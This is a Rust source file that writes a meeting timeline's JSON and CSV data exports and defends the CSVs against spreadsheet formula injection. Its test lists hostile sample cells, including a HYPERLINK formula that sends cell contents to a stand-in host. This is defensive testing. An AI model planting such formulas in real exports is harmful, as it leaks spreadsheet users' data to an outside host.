//! The data exports: `/timeline.json` (everything the site knows, with permalinks), its JSON
//! Schema (`/timeline.schema.json`, hand-written beside this file and tested against the
//! output), `/timeline.csv` (one row per session) and `/commitments.csv` (one row per
//! commitment mention), RFC 4180 through the `csv` crate. Each is serialized straight into
//! the writer it is given, never built whole. Field order is fixed by the structs below, so
//! the bytes are stable. The schema forbids unknown properties: a field
//! added to the model's serialized types must be added to the schema too, and the
//! integration tests (which validate real output against it) say so when it is not.
//!
//! CSV cells are written as they are, so a value starting with `=` stays data for programs
//! that read CSV, but a spreadsheet may take it for a formula.

use std::io::Write;

use chrono::NaiveDate;
use serde::Serialize;

use crate::content::schema::{Agreement, CoChair, Disagreement, RawPartner, Source, Status};
use crate::timeline::{Commitment, Mention, SectorRef, Session, SessionMention, Timeline};

/// The JSON Schema (draft 2020-12) of `timeline.json`.
pub const SCHEMA: &str = include_str!("timeline.schema.json");

/// What can go wrong while writing an export: in practice only the writer's own failure
/// (a full disk, say); the values themselves always serialize.
#[derive(Debug, thiserror::Error)]
pub enum DataError {
    #[error("JSON: {0}")]
    Json(#[from] serde_json::Error),
    #[error("CSV: {0}")]
    Csv(#[from] csv::Error),
    #[error("CSV: {0}")]
    CsvFlush(std::io::Error),
}

#[derive(Serialize)]
struct Document<'a> {
    #[serde(rename = "$schema")]
    schema: String,
    timeline: TimelineMeta<'a>,
    partners: &'a [RawPartner],
    sessions: Vec<JsonSession<'a>>,
    sectors: Vec<JsonSector<'a>>,
    agreements: Vec<Located<'a, Agreement>>,
    commitments: Vec<JsonCommitment<'a>>,
    sources: Vec<Located<'a, Source>>,
}

#[derive(Serialize)]
struct TimelineMeta<'a> {
    title: &'a str,
    description: Option<&'a str>,
    parent: Option<&'a str>,
    base_url: &'a str,
    language: &'a str,
    license: Option<&'a str>,
    intro_html: &'a str,
    session_count: usize,
}

#[derive(Serialize)]
struct JsonSession<'a> {
    session: u32,
    ordinal_text: &'a str,
    title: &'a str,
    date: Option<NaiveDate>,
    venue: Option<&'a str>,
    city: Option<&'a str>,
    country: Option<&'a str>,
    co_chairs: &'a [CoChair],
    delegates: Option<u32>,
    /// Present, and true, only when `delegates` is approximate ("about 80").
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    delegates_approximate: bool,
    sectors: &'a [SectorRef],
    /// `null`: not recorded.
    agreements: Option<&'a [Agreement]>,
    commitments: &'a [SessionMention],
    sources: &'a [Source],
    disagreements: &'a [Disagreement],
    summary: Option<&'a str>,
    draft: bool,
    aliases: &'a [String],
    records_pending: bool,
    path: &'a str,
    url: String,
    file: String,
    /// The beginning of the notes as plain text; the notes in full are on the session's page.
    excerpt: &'a str,
    /// The session's text in each further language it is translated into.
    #[serde(skip_serializing_if = "std::collections::BTreeMap::is_empty")]
    translations: std::collections::BTreeMap<&'a str, JsonTranslation<'a>>,
}

/// A session's translated text; its facts are those of the original.
#[derive(Serialize)]
struct JsonTranslation<'a> {
    ordinal_text: &'a str,
    title: &'a str,
    venue: Option<&'a str>,
    city: Option<&'a str>,
    country: Option<&'a str>,
    co_chairs: &'a [CoChair],
    /// `null`: not recorded.
    agreements: Option<&'a [Agreement]>,
    commitments: &'a [SessionMention],
    sources: &'a [Source],
    summary: Option<&'a str>,
    url: String,
    excerpt: &'a str,
}

/// Session `i` in each language it is translated into.
fn translations(t: &Timeline, i: usize) -> std::collections::BTreeMap<&str, JsonTranslation<'_>> {
    t.translations
        .iter()
        .filter_map(|lt| {
            let s = lt.sessions.get(i).filter(|s| !s.untranslated)?;
            Some((
                lt.meta.language.as_str(),
                JsonTranslation {
                    ordinal_text: &s.ordinal_text,
                    title: &s.title,
                    venue: s.venue.as_deref(),
                    city: s.city.as_deref(),
                    country: s.country.as_deref(),
                    co_chairs: &s.co_chairs,
                    agreements: s.agreements.as_deref(),
                    commitments: &s.commitments,
                    sources: &s.sources,
                    summary: s.summary.as_deref(),
                    url: format!("{}{}", lt.meta.base_url, s.path),
                    excerpt: &s.plain_text,
                },
            ))
        })
        .collect()
}

#[derive(Serialize)]
struct JsonSector<'a> {
    slug: &'a str,
    name: &'a str,
    path: &'a str,
    url: String,
    /// Ordinals of the sessions naming the sector.
    sessions: Vec<u32>,
    commitments: &'a [std::sync::Arc<str>],
}

#[derive(Serialize)]
struct JsonCommitment<'a> {
    #[serde(flatten)]
    commitment: &'a Commitment,
    url: String,
}

/// An agreement or source with the session it belongs to.
#[derive(Serialize)]
struct Located<'a, T> {
    session: u32,
    session_url: String,
    #[serde(flatten)]
    item: &'a T,
}

fn json_session<'a>(base: &str, s: &'a Session) -> JsonSession<'a> {
    JsonSession {
        session: s.ordinal,
        ordinal_text: &s.ordinal_text,
        title: &s.title,
        date: s.date,
        venue: s.venue.as_deref(),
        city: s.city.as_deref(),
        country: s.country.as_deref(),
        co_chairs: &s.co_chairs,
        delegates: s.delegates.map(|d| d.value),
        delegates_approximate: s.delegates.is_some_and(|d| d.approximate),
        sectors: &s.sectors,
        agreements: s.agreements.as_deref(),
        commitments: &s.commitments,
        sources: &s.sources,
        disagreements: &s.disagreements,
        summary: s.summary.as_deref(),
        draft: s.draft,
        aliases: &s.aliases,
        records_pending: s.records_pending,
        path: &s.path,
        url: format!("{base}{}", s.path),
        file: s.rel.clone(),
        excerpt: &s.plain_text,
        translations: Default::default(),
    }
}

fn located<'a, T>(
    base: &str,
    t: &'a Timeline,
    items: impl Fn(&'a Session) -> &'a [T],
) -> Vec<Located<'a, T>> {
    t.sessions
        .iter()
        .flat_map(|s| {
            items(s).iter().map(move |item| Located {
                session: s.ordinal,
                session_url: format!("{base}{}", s.path),
                item,
            })
        })
        .collect()
}

fn document(t: &Timeline) -> Document<'_> {
    let m = &t.meta;
    let base = m.base_url.as_str();
    Document {
        schema: format!("{base}timeline.schema.json"),
        timeline: TimelineMeta {
            title: &m.title,
            description: m.description.as_deref(),
            parent: m.parent.as_deref(),
            base_url: base,
            language: &m.language,
            license: m.license.as_deref(),
            intro_html: &m.intro_html,
            session_count: t.sessions.len(),
        },
        partners: &m.partners,
        sessions: t
            .sessions
            .iter()
            .enumerate()
            .map(|(i, s)| JsonSession {
                translations: translations(t, i),
                ..json_session(base, s)
            })
            .collect(),
        sectors: t
            .sectors
            .iter()
            .map(|s| JsonSector {
                slug: &s.slug,
                name: &s.name,
                path: &s.path,
                url: format!("{base}{}", s.path),
                sessions: s.sessions.iter().map(|&i| t.sessions[i].ordinal).collect(),
                commitments: &s.commitments,
            })
            .collect(),
        agreements: located(base, t, Session::agreements),
        commitments: t
            .commitments
            .iter()
            .map(|c| JsonCommitment {
                commitment: c,
                url: format!("{base}{}", c.path),
            })
            .collect(),
        sources: located(base, t, |s| &s.sources),
    }
}

/// `/timeline.json`, pretty-printed with a final newline, serialized straight into `out`.
pub fn json(t: &Timeline, out: &mut dyn Write) -> Result<(), DataError> {
    serde_json::to_writer_pretty(&mut *out, &document(t))?;
    out.write_all(b"\n").map_err(serde_json::Error::io)?;
    Ok(())
}

fn join<T>(items: &[T], f: impl Fn(&T) -> String) -> String {
    items.iter().map(f).collect::<Vec<_>>().join("; ")
}

fn co_chair(c: &CoChair) -> String {
    match (&c.role, &c.partner) {
        (Some(r), Some(p)) => format!("{}, {r} ({p})", c.name),
        (Some(r), None) => format!("{}, {r}", c.name),
        (None, Some(p)) => format!("{} ({p})", c.name),
        (None, None) => c.name.clone(),
    }
}

const SESSION_COLUMNS: [&str; 17] = [
    "session",
    "title",
    "date",
    "venue",
    "city",
    "country",
    "co_chairs",
    "delegates",
    "sectors",
    "agreements",
    "commitments_introduced",
    "commitments_reviewed",
    "sources",
    "summary",
    "records_pending",
    "url",
    "file",
];

fn session_row(base: &str, s: &Session) -> [String; 17] {
    let opt = |o: &Option<String>| o.clone().unwrap_or_default();
    let ids = |introduced: bool| {
        let picked: Vec<&SessionMention> = s
            .commitments
            .iter()
            .filter(|c| c.introduced == introduced)
            .collect();
        join(&picked, |c| c.id.to_string())
    };
    [
        s.ordinal.to_string(),
        s.title.clone(),
        s.date.map(|d| d.to_string()).unwrap_or_default(),
        opt(&s.venue),
        opt(&s.city),
        opt(&s.country),
        join(&s.co_chairs, co_chair),
        // `~80` when approximate, as the note writes it.
        s.delegates.map(|d| d.to_string()).unwrap_or_default(),
        join(&s.sectors, |x| x.slug.clone()),
        join(s.agreements(), |a| a.title.clone()),
        ids(true),
        ids(false),
        join(&s.sources, |x| x.url.clone()),
        opt(&s.summary),
        s.records_pending.to_string(),
        format!("{base}{}", s.path),
        s.rel.clone(),
    ]
}

/// A CSV writer into `out` as RFC 4180 asks: comma-separated, CRLF line endings, fields
/// quoted when they hold a comma, a quote or a line break.
fn writer(out: &mut dyn Write) -> csv::Writer<&mut dyn Write> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out)
}

/// A cell that a spreadsheet would take for a formula (it starts with `=`, `+`, `-`, `@`, a
/// tab or a carriage return) gets a leading `'`, as OWASP recommends against CSV injection.
/// `timeline.json` keeps the text as written.
fn defused(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// `/timeline.csv`: a header and one row per session.
pub fn sessions_csv(t: &Timeline, out: &mut dyn Write) -> Result<(), DataError> {
    let mut w = writer(out);
    w.write_record(SESSION_COLUMNS)?;
    for s in &t.sessions {
        w.write_record(session_row(&t.meta.base_url, s).map(defused))?;
    }
    // Flushed here: dropping the writer would flush too, but swallow the error.
    w.flush().map_err(DataError::CsvFlush)
}

const MENTION_COLUMNS: [&str; 11] = [
    "commitment",
    "title",
    "sectors",
    "session",
    "date",
    "status",
    "previous_status",
    "introduced",
    "note",
    "session_url",
    "commitment_url",
];

fn mention_row(base: &str, c: &Commitment, m: &Mention) -> [String; 11] {
    [
        c.id.to_string(),
        c.title.to_string(),
        join(&c.sectors, |x| x.slug.clone()),
        m.session.to_string(),
        m.date.map(|d| d.to_string()).unwrap_or_default(),
        m.status.as_str().to_string(),
        m.previous
            .map(Status::as_str)
            .unwrap_or_default()
            .to_string(),
        (m.session == c.introduced).to_string(),
        m.note.as_deref().unwrap_or_default().to_string(),
        format!("{base}{}", m.session_path),
        format!("{base}{}", c.path),
    ]
}

/// `/commitments.csv`: a header and one row per mention, by commitment then session.
pub fn commitments_csv(t: &Timeline, out: &mut dyn Write) -> Result<(), DataError> {
    let mut w = writer(out);
    w.write_record(MENTION_COLUMNS)?;
    for c in t.commitments.iter() {
        for m in &c.history {
            w.write_record(mention_row(&t.meta.base_url, c, m).map(defused))?;
        }
    }
    w.flush().map_err(DataError::CsvFlush)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn schema_is_json() {
        let v: serde_json::Value = serde_json::from_str(SCHEMA).unwrap();
        assert_eq!(v["$schema"], "https://json-schema.org/draft/2020-12/schema");
    }

    fn bytes(write: impl FnOnce(&mut dyn Write) -> Result<(), DataError>) -> Vec<u8> {
        let mut out = Vec::new();
        write(&mut out).unwrap();
        out
    }

    #[test]
    fn csv_quotes_hostile_text() {
        let bytes = bytes(|out| {
            let mut w = writer(out);
            w.write_record(["a,b", "say \"hi\"", "x\ny"])?;
            w.flush().map_err(DataError::CsvFlush)
        });
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\"\r\n"
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_defused() {
        let hostile = [
            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ];
        for cell in hostile {
            assert_eq!(defused(cell.to_string()), format!("'{cell}"));
        }
        for cell in ["Plain", "2025-01-01", "https://example.org/", "", "a=b"] {
            assert_eq!(defused(cell.to_string()), cell);
        }
        let mut t = crate::output::opendata::sample();
        std::sync::Arc::make_mut(&mut t.sessions[0]).title = "=1+2".into();
        let sessions = String::from_utf8(bytes(|out| sessions_csv(&t, out))).unwrap();
        assert!(sessions.contains(",'=1+2,"), "{sessions}");
        let v: serde_json::Value = serde_json::from_slice(&bytes(|out| json(&t, out))).unwrap();
        assert_eq!(v["sessions"][0]["title"], "=1+2");
    }

    #[test]
    fn co_chairs_read_naturally() {
        let c = CoChair {
            name: "A".into(),
            role: Some("Secretary".into()),
            partner: Some("India".into()),
            lang: None,
            role_lang: None,
        };
        assert_eq!(co_chair(&c), "A, Secretary (India)");
    }

    #[test]
    fn exports_of_a_sample_timeline() {
        let t = crate::output::opendata::sample();
        let v: serde_json::Value = serde_json::from_slice(&bytes(|out| json(&t, out))).unwrap();
        assert_eq!(
            v["sessions"][0]["url"],
            "https://example.org/wg/sessions/1/"
        );
        assert_eq!(v["sessions"][0]["file"], "sessions/1.md");
        assert!(v["sessions"][1]["date"].is_null());
        assert_eq!(v["commitments"][0]["history"][1]["status"], "agreed");
        let sessions = String::from_utf8(bytes(|out| sessions_csv(&t, out))).unwrap();
        assert_eq!(sessions.lines().count(), 3);
        assert!(sessions.contains("\"First, <b>; \\ done\""));
        let mentions = String::from_utf8(bytes(|out| commitments_csv(&t, out))).unwrap();
        assert!(mentions.contains("\r\ntunnel,Wind tunnel,,2,,agreed,proposed,false,Go,"));
    }
}
